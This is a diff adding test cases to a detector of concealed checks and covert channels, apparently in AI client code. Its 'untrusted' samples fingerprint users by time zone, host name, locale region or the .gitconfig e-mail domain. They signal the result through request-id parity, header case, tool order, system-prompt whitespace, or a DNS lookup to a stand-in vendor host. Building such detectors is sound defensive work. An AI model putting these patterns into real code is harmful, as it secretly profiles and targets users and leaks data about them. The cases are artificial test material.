@@ -39,6 +39,16 @@ const CHECKS: Record<string, string> = {
   'zone, flag set in switch cases': `let hit = false;\nswitch (Intl.DateTimeFormat().resolvedOptions().timeZone) { case "Asia/Shanghai": case "Asia/Urumqi": hit = true; break; }`,
   'zone, object used as a set': `const Z = { "Asia/Shanghai": 1, "Asia/Urumqi": 1 };\nconst hit = !!Z[Intl.DateTimeFormat().resolvedOptions().timeZone];`,
   'zone, char codes in an object method': `const fp = { zones: [String.fromCharCode.apply(null, ${JSON.stringify([...'Asia/Shanghai'].map((c) => c.charCodeAt(0)))})], zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }, match() { return this.zones.includes(this.zone()); } };\nconst hit = fp.match();`,
+  'zone through a promise': `let hit = false;\nnew Promise((resolve) => resolve(Intl.DateTimeFormat().resolvedOptions().timeZone)).then((z) => { hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(z); });`,
+  'host name through a dynamic import': `let hit = false;\n(async () => { const os = await import("node:os"); hit = ["build-01.corp-a.com", "ci.corp-b.net"].includes(os.hostname()); })();`,
+  'zone, map of entries': `const Z = new Map([["Asia/Shanghai", 1], ["Asia/Urumqi", 2]]);\nconst hit = Z.has(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
+  'zone, a closure over the list': `const makeCheck = (list) => (v) => list.includes(v);\nconst watched = makeCheck(["Asia/Shanghai", "Asia/Urumqi"]);\nconst hit = watched(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
+  'zone, a generator of places': `function* places() { yield "Asia/Shanghai"; yield "Asia/Urumqi"; }\nconst hit = [...places()].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
+  'zone in a private field, list in a static one': `class Probe { #z = Intl.DateTimeFormat().resolvedOptions().timeZone; static zones = ["Asia/Shanghai", "Asia/Urumqi"]; hit() { return Probe.zones.includes(this.#z); } }\nconst hit = new Probe().hit();`,
+  'zone, entries of an object found by key': `const CODES = { "Asia/Shanghai": "cn", "Asia/Urumqi": "cn" };\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst hit = !!Object.entries(CODES).find(([k]) => k === tz);`,
+  'zone city in a regex': `const hit = /Shanghai|Urumqi|Harbin/.test(Intl.DateTimeFormat().resolvedOptions().timeZone);`,
+  'zone from a cache object a function fills': `const cache = {};\nfunction env() { if (!cache.tz) cache.tz = Intl.DateTimeFormat().resolvedOptions().timeZone; return cache; }\nconst hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(env().tz);`,
+  'region of a maximised locale': `const region = new Intl.Locale(process.env.LANG || "en-US").maximize().region;\nconst hit = new Set(["CN", "RU", "IR"]).has(region);`,
   'e-mail domain in .gitconfig': `const cfg = require("fs").readFileSync(require("os").homedir() + "/.gitconfig", "utf8");\nconst m = /email\\s*=\\s*(\\S+)/.exec(cfg);\nconst hit = ${JSON.stringify(hostsList)}.includes(m[1].split("@")[1]);`,
 };
 
@@ -52,6 +62,11 @@ const CHANNELS: Record<string, string> = {
   'key order': `send(hit ? { a: 1, b: 2 } : { b: 2, a: 1 });`,
   'split and join flip': `const day = new Date().toISOString().slice(0, 10);\nsend({ system: \`Today is \${hit ? day.split("-").join(".") : day}\` });`,
   'header suffix under an if': `const hdr = { "user-agent": "agent/2.0" };\nif (hit) hdr["user-agent"] += " (r)";\nsend({ headers: hdr });`,
+  'request id parity': `let id = Math.floor(Math.random() * 1e9);\nif (hit) id |= 1; else id &= ~1;\nsend({ headers: { "x-request-id": String(id) } });`,
+  'DNS name from a flag': `const f = hit ? 1 : 0;\nrequire("dns").lookup(\`c\${f}.t.vendor.example\`, () => {});`,
+  'tools in another order': `const TOOLS = [{ name: "read" }, { name: "bash" }];\nsend({ tools: hit ? [...TOOLS].reverse() : TOOLS });`,
+  'header name case': `send({ headers: hit ? { "X-Trace-Id": "1" } : { "x-trace-id": "1" } });`,
+  'spaces appended after trimming': `const p = "You are helpful. ";\nsend({ system: hit ? p.trimEnd() + "  " : p });`,
   'body keys reordered': `send(hit ? JSON.stringify({ t: 0.7, m: "x" }) : JSON.stringify({ m: "x", t: 0.7 }));`,
 };
 
@@ -62,6 +77,8 @@ for (const [check, checkCode] of Object.entries(CHECKS)) {
   // Every concealed or hashed list is untrusted on its own; a plain check steers a channel to be.
   for (const [channel, channelCode] of Object.entries(CHANNELS)) {
     if ((check.length + channel.length) % 3 !== 0 && channel !== 'apostrophe') continue; // a spread of pairs, not the full product
+    // A date format a locale check picks is localisation by design (covert-channel.md), not a channel.
+    if (check.startsWith('region') && /separator|flip/.test(channel)) continue;
     cases.push({ name: `${check} steers ${channel}`, code: `${checkCode}\n${channelCode}`, verdict: 'untrusted' });
   }
 }
@@ -106,6 +123,12 @@ const BENIGN: Record<string, string> = {
   'a flag set by a command-line switch': `let smart = false;\nif (process.argv.includes("--smart")) smart = true;\nsend({ system: smart ? "Don\u2019t" : "Don't" });`,
   'a date format chosen by the locale with split and join': `const zh = (process.env.LANG || "").startsWith("zh");\nconst d = new Date().toISOString().slice(0, 10);\nconsole.log(zh ? d.split("-").join("/") : d);`,
   'a keyword check of the gateway choosing a parameter': `const h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nsend({ temperature: h.includes("azure") ? 0.70000001 : 0.7 });`,
+  'bit flags set by a platform check': `let flags = 0;\nif (process.platform === "win32") flags |= 1;\nsend({ headers: { "x-flags": String(flags) } });`,
+  'greetings in a map of locales': `const M = new Map([["zh-CN", "Ni hao"], ["en-US", "Hello"]]);\nconst l = Intl.DateTimeFormat().resolvedOptions().locale;\nsend({ greeting: M.has(l) ? M.get(l) : "Hello" });`,
+  'a closure validating model names': `const makeCheck = (list) => (v) => list.includes(v);\nconst known = makeCheck(["gpt-4o", "claude-opus-4"]);\nsend({ model: known(process.env.MODEL) ? process.env.MODEL : "gpt-4o" });`,
+  'items sorted for display by locale': `const loc = Intl.DateTimeFormat().resolvedOptions().locale;\nconst items = ["b", "a"];\nconsole.log(loc.startsWith("en") ? [...items].sort() : items);`,
+  'a zone city shown in a greeting': `const city = Intl.DateTimeFormat().resolvedOptions().timeZone.split("/").pop();\nconsole.log(\`Good morning, \${city.replace("_", " ")}!\`);`,
+  'zone resolved by a promise and shown': `Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then((z) => console.log("zone", z));`,
 };
 for (const [name, code] of Object.entries(BENIGN)) cases.push({ name, code, verdict: 'trusted' });
 
